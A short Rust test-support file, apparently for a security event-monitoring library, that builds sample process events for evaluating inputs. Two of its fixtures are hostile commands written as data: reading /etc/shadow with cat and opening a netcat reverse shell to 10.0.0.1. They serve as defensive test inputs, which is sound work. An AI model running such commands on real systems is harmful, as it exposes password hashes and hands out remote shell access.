//! The events that inputs are evaluated on.

use lanner_schema::container::Owner;
use lanner_schema::record::Wire;
use lanner_schema::view::{EventView, Names, NoState};

use crate::support::{container, host};

/// Shows `look` a few events: of the host, of a container, with paths, sockets and results, and one without anything.
pub(crate) fn each(look: &mut dyn FnMut(&EventView<'_>)) {
    let events = [
        host("/usr/bin/cat -n /etc/shadow").opens("/etc/shadow", 0),
        container("nc -e /bin/sh 10.0.0.1").connects("10.0.0.1", 443, 0),
        host("curl").connects("2001:db8::2", 53, -115),
        container("-bash").starts(),
        host("mv").renames("/a", "/b/../c"),
    ];
    for event in &events {
        event.view(&mut *look);
    }
    events[0].view(|view| {
        look(&EventView {
            wire: Wire::EMPTY,
            paths: &[],
            process: None,
            descriptor: None,
            names: Names::Agree,
            owner: Owner::Host,
            system: &NoState,
            ..*view
        });
    });
}
